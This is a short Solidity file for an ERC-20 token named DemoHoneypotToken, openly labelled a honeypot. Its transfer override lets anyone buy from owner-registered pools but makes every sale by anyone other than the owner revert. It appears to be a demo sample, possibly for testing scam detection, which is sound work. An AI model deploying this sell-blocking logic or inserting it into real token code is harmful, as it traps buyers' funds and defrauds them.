// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20Base} from "../ERC20Base.sol";
import {Owned} from "./Owned.sol";

/// @notice A honeypot: anyone can buy from its pools, but only the owner can send tokens into one,
/// so every sale by anyone else reverts.
contract DemoHoneypotToken is ERC20Base, Owned {
    string public name;
    string public symbol;
    uint8 public immutable decimals;
    mapping(address => bool) private pools;

    constructor(string memory name_, string memory symbol_, uint8 decimals_, uint256 supply, address holder) {
        name = name_;
        symbol = symbol_;
        decimals = decimals_;
        _setOwner(msg.sender);
        _mint(holder, supply);
    }

    function setPool(address pool) external onlyOwner {
        pools[pool] = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!pools[to] || from == owner, "TRANSFER_FAILED");
        super._transfer(from, to, value);
    }
}
